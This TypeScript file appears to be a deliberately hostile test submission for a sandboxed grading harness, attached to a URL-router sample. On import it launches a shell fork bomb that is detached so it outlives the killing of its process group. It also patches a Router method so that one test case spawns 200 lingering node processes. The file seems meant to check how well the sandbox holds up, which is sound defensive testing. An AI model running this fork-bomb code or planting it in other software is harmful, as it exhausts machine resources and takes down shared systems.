// Hostile submission 'forks-a-bomb' for recorded mode in TypeScript (tests/hostile/node/README.md).
// The partial sample's code (examples/url-router/partial), then the attack.


// ---- the attack ----------------------------------------------------------------------------
// A fork bomb at import, detached from the case process (a session of its own, so that killing
// the case process's group does not end it), and a second one from node's own child_process in
// a failed case. The code above is then used as it is.
import * as childProcess from "child_process";

function bomb(): void {
  try {
    childProcess.spawn("sh", ["-c", "b() { b | b & }; b"], { detached: true, stdio: "ignore" })
      .on("error", () => undefined);
  } catch {
    // out of processes already
  }
}
bomb();
const partialHref2 = Router.prototype.href;
Router.prototype.href = function (this: Router, name: string, ...rest: any[]): string {
  if (name === "list") {
    console.log("processes in the sandbox:", require("fs").readdirSync("/proc")
      .filter((entry: string) => /^\d+$/.test(entry)).length);
    for (let i = 0; i < 200; i++) {
      try {
        childProcess.spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)"],
                           { detached: true, stdio: "ignore" }).on("error", () => undefined);
      } catch {
        break;
      }
    }
  }
  return partialHref2.apply(this, [name, ...rest] as any);
};
